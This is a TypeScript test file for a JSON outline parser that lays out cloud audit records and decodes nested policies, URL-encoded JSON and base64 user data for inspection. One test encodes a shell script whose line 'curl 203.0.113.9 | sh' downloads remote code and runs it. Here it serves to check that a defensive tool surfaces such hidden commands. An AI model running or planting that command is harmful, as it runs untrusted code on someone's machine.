import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  findLines,
  leafValue,
  lineAt,
  outlineOf,
  pathOf,
  placeOf,
} from '../../../src/core/record/outline.ts';
import { locate } from '../../../src/core/record/locate.ts';

/** The lines of the record itself put together again, without the white space. */
function joined(json: string): string {
  return outlineOf(json)
    .filter((line) => line.within < 0)
    .map((line) => (line.key === null ? '' : `${line.key}:`) + line.text + (line.comma ? ',' : ''))
    .join('');
}

test('nothing but white space is changed', () => {
  fc.assert(
    fc.property(fc.json(), fc.constantFrom(undefined, 1, '\t'), (json, indent) => {
      const text = JSON.stringify(JSON.parse(json), null, indent);
      expect(joined(text)).toBe(JSON.stringify(JSON.parse(json)));
    }),
  );
});

test('not by what strings hold either', () => {
  fc.assert(
    fc.property(fc.json(), fc.json(), (first, second) => {
      const text = JSON.stringify({
        a: first,
        b: [second, 1],
        userData: 'aGVsbG8=',
        c: encodeURIComponent(first),
      });
      expect(joined(text)).toBe(text);
    }),
  );
});

test('literals keep their digits and escapes', () => {
  const json = '{"a":1.0e3,"b":12345678901234567890,"c":"\\u00e9\\/","a":2}';
  expect(joined(json)).toBe(json);
});

test('never throws, never loses the tail of a broken text', () => {
  fc.assert(
    fc.property(fc.stringMatching(/^[[{}\]":,a\\ 1]{0,30}$/), (json) => {
      for (const line of outlineOf(json)) leafValue(line);
    }),
  );
  expect(joined('{"a":[1,2')).toBe('{"a":[1,2');
});

test('places and paths are those of evidence and of queries', () => {
  fc.assert(
    fc.property(fc.dictionary(fc.string(), fc.jsonValue()), (record) => {
      const json = JSON.stringify(record);
      const located = [...locate(JSON.parse(json))].map(({ path, flat, value }) => [path, flat, value]);
      const lines = outlineOf(json);
      const leaves = lines.flatMap((line, i) => {
        const value = line.within < 0 ? leafValue(line) : null;
        return value === undefined || value === null ? [] : [[placeOf(lines, i), pathOf(lines, i), value]];
      });
      for (const [place, , value] of located) {
        expect(leafValue(lines[lineAt(lines, String(place))]!)).toEqual(value);
      }
      expect(leaves).toEqual(located);
    }),
  );
});

test('every line knows where what belongs to it ends', () => {
  fc.assert(
    fc.property(fc.json(), (json) => {
      const lines = outlineOf(json);
      for (const [i, line] of lines.entries()) {
        expect(line.end).toBeGreaterThan(i);
        const inner = lines.slice(i + 1, line.end);
        if (line.kind === 'open') expect(inner.at(-1)).toMatchObject({ kind: 'close', depth: line.depth });
        expect(
          inner.slice(0, line.kind === 'open' ? -1 : undefined).every((one) => one.depth > line.depth),
        ).toBe(true);
      }
    }),
  );
});

test('depth is no danger', () => {
  const deep = '['.repeat(50_000) + ']'.repeat(50_000);
  expect(outlineOf(deep)).toHaveLength(99_999);
});

describe('what strings hold', () => {
  const policy = JSON.stringify({ Statement: [{ Action: '*' }] });
  const action = (json: string) => {
    const lines = outlineOf(json);
    const at = lines.findIndex((line) => line.key === '"Action"');
    return { place: placeOf(lines, at), path: pathOf(lines, at), ...lines[at] };
  };

  test('is opened up: JSON, URL-encoded as IAM answers, in one another', () => {
    const plain = JSON.stringify({ requestParameters: { policyDocument: policy } });
    expect(action(plain)).toMatchObject({
      place: 'requestParameters.policyDocument ▸ Statement[0].Action',
      path: null,
      depth: 6,
      within: 2,
    });
    expect(outlineOf(plain)[2]).toMatchObject({ holds: 'JSON in a string', end: 10, comma: false });
    const encoded = JSON.stringify({ document: encodeURIComponent(policy), next: 1 });
    expect(outlineOf(encoded)[1]).toMatchObject({ holds: 'URL-encoded JSON', comma: true });
    expect(action(encoded).place).toBe('document ▸ Statement[0].Action');
    const nested = JSON.stringify({ template: JSON.stringify({ policy }) });
    expect(action(nested).place).toBe('template ▸ policy ▸ Statement[0].Action');
  });

  test('is decoded from base64 where user data stands, when it is text', () => {
    const data = btoa('#!/bin/sh\ncurl 203.0.113.9 | sh\n');
    const lines = outlineOf(JSON.stringify({ userData: data, other: data }));
    expect(lines[1]).toMatchObject({ holds: 'base64 text', text: `"${data}"` });
    expect(lines[3]).toMatchObject({ text: 'curl 203.0.113.9 | sh', kind: 'text' });
    expect(lines.find((line) => line.key === '"other"')?.holds).toBeNull();
    for (const binary of ['H4sIAAAAAAAA', btoa('\u0000\u0001ab'), 'not base64!']) {
      expect(outlineOf(JSON.stringify({ userData: binary }))[1]?.holds).toBeNull();
    }
  });

  test('is nothing where it only looks so', () => {
    for (const text of ['{not json', '%7B%', '[]', '{}', '[1', '%5B%ZZ']) {
      expect(outlineOf(JSON.stringify({ a: text }))).toHaveLength(3);
    }
  });
});

describe('finding', () => {
  const json = JSON.stringify({
    eventName: 'PutBucketPolicy',
    requestParameters: { bucketPolicy: JSON.stringify({ Effect: 'Allow' }), name: 'caf\u00e9 "x"' },
  });
  const lines = outlineOf(json);
  const places = (needle: string) => findLines(lines, needle).map((i) => placeOf(lines, i));

  test('looks at keys and values, in any case, in order', () => {
    expect(places('POLICY')).toEqual(['eventName', 'requestParameters.bucketPolicy']);
    expect(places('nowhere')).toEqual([]);
    expect(places('')).toEqual([]);
  });

  test('finds what a string holds once, where it is laid out', () => {
    expect(places('allow')).toEqual(['requestParameters.bucketPolicy ▸ Effect']);
  });

  test('reads escapes', () => {
    expect(places('é "X"')).toEqual(['requestParameters.name']);
  });
});
